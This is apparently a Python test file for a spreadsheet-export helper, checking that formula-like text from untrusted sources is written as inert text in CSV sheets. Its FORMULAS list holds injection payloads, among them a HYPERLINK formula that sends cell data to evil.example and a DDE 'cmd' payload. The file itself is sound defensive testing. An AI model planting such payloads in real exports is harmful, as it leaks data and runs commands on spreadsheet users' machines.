"""What strangers wrote is a text in every table that people open in a spreadsheet, and never a formula."""

import csv
from pathlib import Path

import pytest

from r2s.evaluation.kbench.sheets import write_sheet
from r2s.evaluation.spreadsheets import as_cell
from r2s.experiments.table import write_csv
from r2s.samples.dialogue import dialogues_of
from tests.trees.forest import make_tree

FORMULAS = (
    '=HYPERLINK("https://evil.example/?" & A1, "press")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "＝1+1",
)


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_becomes_a_text(text: str) -> None:
    assert as_cell(text) == f"'{text}".replace("\r", "\n")


@pytest.mark.parametrize("text", ["a = b", "Skerry", "", "灯塔", "1-2"])
def test_other_texts_stay_as_they_are(text: str) -> None:
    assert as_cell(text) == text


@pytest.mark.parametrize("value", ["-0.5", "+3", "-1e-05", -0.5])
def test_a_setting_that_is_a_number_stays_one_in_a_table(value: str | float, tmp_path: Path) -> None:
    write_csv(tmp_path / "table.csv", ["setting"], [{"setting": value}])

    assert (tmp_path / "table.csv").read_text(encoding="utf-8") == f"setting\n{value}\n"


@pytest.mark.parametrize("text", FORMULAS)
def test_no_cell_of_a_sheet_or_table_begins_a_formula(text: str, tmp_path: Path) -> None:
    tree = make_tree()
    document = tree.document.model_copy(update={"title": text, "text": text})
    nodes = tuple(node.model_copy(update={"text": text}) for node in tree.nodes)
    tree = tree.model_copy(update={"document": document, "nodes": nodes})

    write_sheet(tmp_path / "sheet.csv", dialogues_of(tree))
    write_csv(
        tmp_path / "table.csv", ["document", "error", "score"], [{"document": text, "error": text, "score": -0.5}]
    )

    for name in ("sheet.csv", "table.csv"):
        with (tmp_path / name).open(encoding="utf-8-sig", newline="") as file:
            cells = [cell for row in csv.reader(file) for cell in row]
        assert as_cell(text) in cells
        assert not [cell for cell in cells if cell.lstrip().startswith(("=", "+", "@", "＝")) or cell == "-2+3"]
